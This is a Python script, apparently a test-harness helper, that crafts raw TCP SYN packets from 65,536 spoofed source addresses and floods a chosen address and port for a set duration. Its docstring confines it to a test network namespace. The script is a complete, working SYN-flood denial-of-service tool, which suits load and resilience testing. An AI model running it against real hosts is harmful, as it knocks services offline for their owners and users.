"""Raw SYNs at one listener, as fast as one Python thread sends them, for a bounded time.

    python3 synflood.py DST_ADDR DST_PORT SECONDS SRC_PREFIX

Run inside the test's client namespace only: DST is the test's server
namespace over their veth. Sources are SRC_PREFIX.X.Y (a /16 the server
routes back to the client namespace, where nothing answers: no RST), 65,536 of
them, each with its own source port, sent round-robin. Prints the number of
SYNs sent and the seconds taken, as JSON.
"""
import json
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # version/IHL, TOS, total length, id, flags/fragment, TTL, protocol, checksum (the kernel
    # fills in the length, id and checksum of an IP_HDRINCL packet), source, destination
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


def main():
    dst, dport, seconds, prefix = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
    rng = random.Random(1)
    pkts = [syn("%s.%d.%d" % (prefix, i >> 8, i & 255), dst, rng.randrange(1024, 65536), dport,
                rng.randrange(1 << 32)) for i in range(65536)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    addr = (dst, 0)
    sent = 0
    t0 = time.monotonic()
    end = t0 + seconds
    send = s.sendto
    while True:
        for p in pkts[sent & 65535:(sent & 65535) + 1024]:
            send(p, addr)
        sent += 1024
        if time.monotonic() >= end:
            break
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - t0}), flush=True)


if __name__ == "__main__":
    main()
